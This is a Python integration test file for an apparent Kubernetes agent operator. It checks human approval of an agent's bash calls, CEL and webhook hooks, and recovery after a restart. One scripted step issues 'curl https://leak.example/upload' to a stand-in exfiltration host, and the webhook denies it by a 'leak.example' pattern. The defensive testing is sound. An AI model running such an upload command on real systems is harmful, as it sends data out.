"""Tool permission policies end to end in the local cluster (operator, harness pod, sandbox
pod, scripted model): a Policy selects the Agent by label (the Agent's status names it, the
Policy's status names the Agent); a bash call it asks about waits, shown in the Task's status
and ``kubectl get tasks``, holding no sandbox, until ``cadre approve --call``; a rejected call
(answered with a plain merge patch, as GitOps tools would) reaches the model as an error; a
Policy selecting no Agent says so; a harness killed while a call waits waits on, and the
timeout answers. Hooks: a CEL rewrite, a refusing webhook and a
BeforeDelivery command, end to end."""

from __future__ import annotations

import asyncio
from typing import Any

from cadre.harness.session import LESSON_REQUEST

from tests.cli.test_commands import cadre
from tests.harness.conftest import ModelFactory, until
from tests.harness.webhooks import Webhook
from tests.localcluster.conftest import Served, for_pods
from tests.operator.conftest import NS, create_agent, create_task, ended

CADRE = f"/apis/cadre.dev/v1alpha1/namespaces/{NS}"
STEPS = [
    {"choices": [
        {"when_prompt_contains": "approve", "text": "Writing.", "tool_uses": [
            {"name": "bash", "input": {"command": "echo yes > approved.txt && cat approved.txt"}}]},
        {"text": "Writing.", "tool_uses": [
            {"name": "bash", "input": {"command": "echo no > rejected.txt"}}]},
    ]},
    {"choices": [
        {"when_last_result_contains": "yes", "text": "Done: approved."},
        {"when_last_result_contains": "rejected by", "text": "Stopped: rejected."},
        {"text": "Unexpected."},
    ]},
]  # fmt: skip


def _policy(name: str, selector: dict[str, Any]) -> dict[str, Any]:
    rule = {"name": "shell-needs-a-human", "tools": ["bash"], "decision": "Ask",
            "message": "a person checks commands"}  # fmt: skip
    return {"apiVersion": "cadre.dev/v1alpha1", "kind": "Policy", "metadata": {"name": name},
            "spec": {"agentSelector": {"matchLabels": selector}, "toolRules": [rule]}}  # fmt: skip


async def test_ask_calls_wait_for_a_human_answer_given_with_cadre_or_a_patch(
    cluster: Served, operator: asyncio.subprocess.Process, scripted: ModelFactory
) -> None:
    http = cluster.http
    url, _ = await scripted({"agents": {"engineer": STEPS}})
    assert http("POST", f"{CADRE}/policies", _policy("shell", {"team": "platform"})).ok
    assert http("POST", f"{CADRE}/policies", _policy("nobody", {"team": "none"})).ok
    create_agent(http, url)
    http("PATCH", f"{CADRE}/agents/engineer", {"metadata": {"labels": {"team": "platform"}}},
         content_type="application/merge-patch+json")  # fmt: skip

    def governs() -> bool:
        agent = http("GET", f"{CADRE}/agents/engineer").json()
        policy = http("GET", f"{CADRE}/policies/shell").json()
        return (agent.get("status") or {}).get("policies") == ["shell"] and (
            (policy.get("status") or {}).get("selectedAgents") == ["engineer"])  # fmt: skip

    await until(governs)
    nobody = await until(lambda: http("GET", f"{CADRE}/policies/nobody").json().get("status"))
    selecting = next(c for c in nobody["conditions"] if c["type"] == "Selecting")
    assert (selecting["status"], selecting["reason"]) == ("False", "NoAgentsSelected")

    create_task(http, "yes", "Please approve this.")
    create_task(http, "no", "Please do it.")

    def waiting(name: str) -> dict[str, Any] | None:
        status = http("GET", f"{CADRE}/tasks/{name}").json().get("status") or {}
        return status if status.get("pendingToolCalls") else None

    status = await until(lambda: waiting("yes"))
    assert status["phase"] == "Waiting"
    assert status["waitingFor"] == "approval of a bash call"
    ((call, pending),) = status["pendingToolCalls"].items()
    assert (pending["policy"], pending["rule"]) == ("shell", "shell-needs-a-human")
    assert "approved.txt" in pending["input"]
    listed = await asyncio.to_thread(cadre, cluster.kubeconfig, "approve", "yes", "--call", call,
                                     "--reason", "fine")  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    assert f"task/yes call {call} approved" in listed.stdout
    done = await until(lambda: ended(http, "yes"))
    assert (done["status"]["phase"], done["status"]["result"]["summary"]) == (
        "Succeeded", "Done: approved.")  # fmt: skip
    assert not done["status"].get("pendingToolCalls")

    other = await until(lambda: waiting("no"))
    ((call, _),) = other["pendingToolCalls"].items()
    answer = {"spec": {"toolApprovals": {call: {"decision": "Rejected", "reason": "not now"}}}}
    patched = http("PATCH", f"{CADRE}/tasks/no", answer,
                   content_type="application/merge-patch+json")  # fmt: skip
    assert patched.status_code == 200, patched.text
    refused = await until(lambda: ended(http, "no"))
    assert refused["status"]["result"]["summary"] == "Stopped: rejected."
    # An answer given stays as given: changing it is refused by the API server.
    change = {"spec": {"toolApprovals": {call: {"decision": "Approved"}}}}
    again = http("PATCH", f"{CADRE}/tasks/no", change, content_type="application/merge-patch+json")
    assert again.status_code == 422
    assert "an answer cannot be changed" in again.text


HOOKED = [
    {"text": "Drafting.", "tool_uses": [{"name": "bash", "input": {
        "command": "echo draft > draft.txt"}}]},
    {"text": "Fetching.", "tool_uses": [{"name": "bash", "input": {
        "command": "curl https://leak.example/upload"}}]},
    {"text": "Done."},
    {"choices": [
        {"when_last_message_contains": "sent back", "text": "Fixing.", "tool_uses": [
            {"name": "bash", "input": {"command": "touch tests-pass"}}]},
    ]},
    {"text": "Finished."},
]  # fmt: skip


async def test_hooks_rewrite_refuse_and_send_work_back_in_the_local_cluster(
    cluster: Served, operator: asyncio.subprocess.Process, scripted: ModelFactory,
    webhook: Webhook,
) -> None:  # fmt: skip
    """A CEL hook rewrites a command, an HTTPS webhook refuses one, a BeforeDelivery command
    (the tests, run in the sandbox pod) sends the work back until it passes; a Policy whose CEL
    does not compile says so in its status, naming the field."""
    http = cluster.http
    url, model = await scripted({"agents": {"engineer": HOOKED}})
    webhook.deny_containing = "leak.example"
    rewrite = ("input.command.startsWith('echo draft') ? "
               "{'command': 'echo reviewed > draft.txt'} : true")  # fmt: skip
    hooks = [
        {"name": "reviewed-drafts", "at": "BeforeToolCall", "tools": ["bash"],
         "cel": {"expression": rewrite}},
        {"name": "change-board", "at": "BeforeToolCall", "tools": ["bash"],
         "webhook": {"url": for_pods(webhook.url), "caBundle": webhook.ca_bundle}},
        {"name": "tests", "at": "BeforeDelivery", "command": {
            "command": "grep -q reviewed draft.txt && test -f tests-pass || "
                       "{ echo 'FAILED: tests-pass missing'; exit 1; }"}},
    ]  # fmt: skip
    policy = {"apiVersion": "cadre.dev/v1alpha1", "kind": "Policy",
              "metadata": {"name": "guard"}, "spec": {"hooks": hooks}}  # fmt: skip
    assert http("POST", f"{CADRE}/policies", policy).ok
    broken = {
        **policy,
        "metadata": {"name": "broken"},
        "spec": {
            "agentSelector": {"matchLabels": {"team": "none"}},
            "hooks": [{"name": "typo", "at": "BeforeToolCall", "cel": {"expression": "input.("}}],
        },
    }
    assert http("POST", f"{CADRE}/policies", broken).ok
    create_agent(http, url)
    create_task(http, "hooked", "Draft the notes.")
    done = await until(lambda: ended(http, "hooked"))
    assert (done["status"]["phase"], done["status"]["result"]["summary"]) == (
        "Succeeded", "Finished.")  # fmt: skip

    def said(words: str) -> bool:
        return any(words in str(request["messages"]) for request in model.requests)

    assert said("[input rewritten by Policy guard, hook reviewed-drafts")
    assert said("denied by Policy guard, hook change-board: the change board says no")
    assert said("sent back by Policy guard, hook tests (round 1 of at most 3)")
    assert said("FAILED: tests-pass missing")
    points = [r["request"]["input"]["command"] for r in webhook.requests]
    assert points == ["echo reviewed > draft.txt", "curl https://leak.example/upload",
                      "touch tests-pass"]  # fmt: skip

    def hooks_invalid() -> dict[str, Any] | None:
        status = http("GET", f"{CADRE}/policies/broken").json().get("status") or {}
        return next((c for c in status.get("conditions") or []
                     if c["type"] == "HooksValid" and c["status"] == "False"), None)  # fmt: skip

    condition = await until(hooks_invalid)
    assert condition["reason"] == "InvalidExpression"
    assert condition["message"].startswith("spec.hooks[0].cel.expression: ")


async def test_a_harness_killed_while_a_call_waits_resumes_waiting_until_the_timeout_answers(
    cluster: Served, operator: asyncio.subprocess.Process, scripted: ModelFactory
) -> None:
    http = cluster.http
    url, model = await scripted({"agents": {"engineer": STEPS}})
    policy = _policy("slow", {})  # an empty selector: every Agent of the namespace
    policy["spec"]["approval"] = {"timeout": "15s", "onTimeout": "Approve"}
    assert http("POST", f"{CADRE}/policies", policy).ok
    create_agent(http, url)
    create_task(http, "late", "Please approve this.")

    def waiting() -> dict[str, Any] | None:
        status = http("GET", f"{CADRE}/tasks/late").json().get("status") or {}
        return status if status.get("pendingToolCalls") else None

    before = (await until(waiting))["pendingToolCalls"]
    pods = f"/api/v1/namespaces/{NS}/pods"
    old = http("GET", f"{pods}/harness-engineer-0").json()["metadata"]["uid"]
    http("DELETE", f"{pods}/harness-engineer-0", {"gracePeriodSeconds": 0})

    def restarted() -> bool:
        pod = http("GET", f"{pods}/harness-engineer-0").json()
        ready = any(c["type"] == "Ready" and c["status"] == "True"
                    for c in (pod.get("status") or {}).get("conditions") or [])  # fmt: skip
        return pod.get("metadata", {}).get("uid") not in (None, old) and ready

    await until(restarted)
    # The new harness waits on the same call, with the same deadline, and asks nothing again.
    still = waiting()
    assert still is not None
    assert still["pendingToolCalls"] == before
    assert len(model.requests) == 1
    done = await until(lambda: ended(http, "late"), within=90)
    assert (done["status"]["phase"], done["status"]["result"]["summary"]) == (
        "Succeeded", "Done: approved.")  # fmt: skip
    turns = [r for r in model.requests if r["messages"][-1].get("content") != LESSON_REQUEST]
    assert len(turns) == 2  # the call's turn and the one after: nothing repeated
